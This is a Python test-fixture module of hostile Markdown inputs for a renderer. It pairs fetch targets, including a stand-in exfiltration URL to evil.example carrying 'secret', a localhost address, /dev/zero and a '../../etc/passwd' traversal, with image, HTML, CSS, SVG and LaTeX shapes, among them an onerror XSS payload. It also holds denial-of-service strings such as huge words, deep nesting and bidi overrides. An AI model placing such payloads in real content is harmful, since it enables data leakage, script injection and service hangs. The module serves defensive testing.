"""Model text that is made to fetch, hide, reorder or freeze (rows E1 to E5); others import it, too."""

from __future__ import annotations

TARGETS = (
    "http://127.0.0.1:9/x.png",
    "https://evil.example/?q=secret",
    "//host/share/x.png",
    "/dev/zero",
    "file:///dev/zero",
    "data:image/svg+xml;base64,PHN2Zy8+",
    "picture:../../etc/passwd",
    "picture:" + "a" * 64,
)
SHAPES = (
    "![a](@)",
    "![a](<@> 'title')",
    "[![b](@)](http://x.example)",
    "![c][r]\n\n[r]: @",
    "[r2]: <@> 'title'\n\n[see][r2] [r2] ![r2]",
    "text[^n]\n\n[^n]: ![d](@)",
    "| ![e](@) |\n|---|\n| <img src=@> |",
    "- [ ] ![f](@)",
    "> ![g](@)",
    "$\\includegraphics{@}$ and $$\\href{@}{x} \\url{@} \\input{@}$$",
    "\\[ \\href{@}{x} \\]",
    "<img src='@' onerror=alert(1)>",
    "<link rel=stylesheet href=@>",
    "<style>p { background: url(@); } @import '@';</style>",
    "<object data=@></object><iframe src=@></iframe><video src=@ autoplay></video>",
    "<svg><image href='@'/></svg>",
    "```mermaid\nclick A '@'\n```",
    "@",
    "<@>",
)
"""An at sign stands for an address."""

FETCHING = "\n\n".join(shape.replace("@", target) for target in TARGETS for shape in SHAPES)

_ARABIC = "هذا نص عربي طويل جدا يمتد من اليمين إلى اليسار "
_HEBREW = "שלום עולם זהו טקסט ארוך "

HOSTILE: list[tuple[str, str]] = [
    ("fetching", FETCHING),
    ("a word of 1 MB", "x" * 1_000_000),
    ("a bold word of 1 MB", f"**{'y' * 1_000_000}**"),
    ("a table of 10,000 rows", "| a | b |\n|---|---|\n" + "| x | y |\n" * 10_000),
    ("a table of 2,000 columns", "|" + "a|" * 2_000 + "\n|" + "-|" * 2_000 + "\n" + "|" + "b|" * 2_000),
    ("a table of 500 formatted rows", "| a | b |\n|---|:-:|\n" + "| **x** `y` $z^2$ | *a* [b](c) |\n" * 500),
    ("stars", "*a**b" * 30_000),
    ("underscores", "_a__b_ " * 20_000),
    ("50,000 references", "".join(f"[r{n}]: http://x.example/{n}\n" for n in range(50_000))),
    ("50,000 names", "[a][r1] " * 50_000 + "\n\n[r1]: http://x.example\n"),
    ("names before addresses", "".join(f"[r{n}]\n\n" for n in range(4_000))
     + "".join(f"[r{n}]: http://x.example\n" for n in range(4_000))),
    ("5,000 footnotes", "".join(f"a[^{n}]\n\n[^{n}]: note\n\n" for n in range(5_000))),
    ("combining marks", "e" + "\u0301" * 100_000),
    ("combining marks apart", "e\u0301\u0302\u0303\u0304\u0305" * 20_000),
    ("right to left", _ARABIC * 4_000),
    ("right to left without spaces", "ع" * 100_000),
    ("both ways", (_ARABIC + "and back " + _HEBREW + "1, 2. ") * 1_500),
    ("turned round", "\u202e" + "\u2067\u202dabc\u202c\u2069 " * 20_000),
    ("marks of direction", "a\u200fb\u200e\u061c" * 20_000),
    ("deep quotes", "> " * 40_000 + "x"),
    ("deep lists", "".join("  " * n + "- x\n" for n in range(600))),
    ("deep brackets", "[a](" * 20_000 + "![" * 20_000),
    ("deep emphasis", "*a _b " * 10_000),
    ("deep formulas", "$$" + "\\frac{" * 5_000 + "$$\n\n$" + "{" * 5_000 + "}" * 5_000 + "$ " + "x^" * 5_000),
    ("dollars", "$" * 50_000 + " $a" * 20_000),
    ("formulas", "$\\sum_{i=1}^n \\frac{a_i}{b}$ " * 8_000),
    ("open formula", "$$\n" + "x + \\alpha_1\n" * 20_000),
    ("NULs", "a\x00" * 50_000 + "\n\n```\n" + "\x00\x1b[31m" * 5_000),
    ("line separators", "a\u2028b\u2029c\x0bd\x0ce\x85 " * 10_000),
    ("zero width", "a\u200b\u200d\ufeff\u2060" * 25_000),
    ("emoji", "👩‍👩‍👧‍👦🏴\U000e0067\U000e0062\U000e007f🐈‍⬛ " * 8_000),
    ("ideographs", "日本語中文한국어" * 20_000),
    ("variants", "\u2764\ufe0f\u20e3" * 20_000),
    ("a line of code of 900 kB", "```python\n" + "x = 1 " * 150_000),
    ("100,000 lines of code", "```python\n" + "x = '\n" * 100_000),
    ("unclosed fences", "```\n~~~\n" * 20_000),
    ("raw HTML", "<div>" * 40_000 + "\n\n" + "<!-- " + "a\n\n" * 20_000),
    ("entities", "&amp;&lt;&#x202e;&#0;&unknown; " * 10_000),
    ("backslashes", "\\" * 100_000 + "\\*" * 20_000),
    ("rules and headings", "---\n# a\n" * 10_000),
    ("empty items", "-\n" * 20_000 + "1.\n" * 20_000),
    ("blank lines", "\n" * 500_000 + "end"),
    ("carriage returns", "a\r" * 50_000 + "\r\n" * 50_000),
    ("autolinks", "http://a.example/(b www.c.example d@e.example " * 6_000),
    ("at signs", "a@" * 50_000 + "www." * 20_000),
]  # fmt: skip
"""(what it is, the text)."""
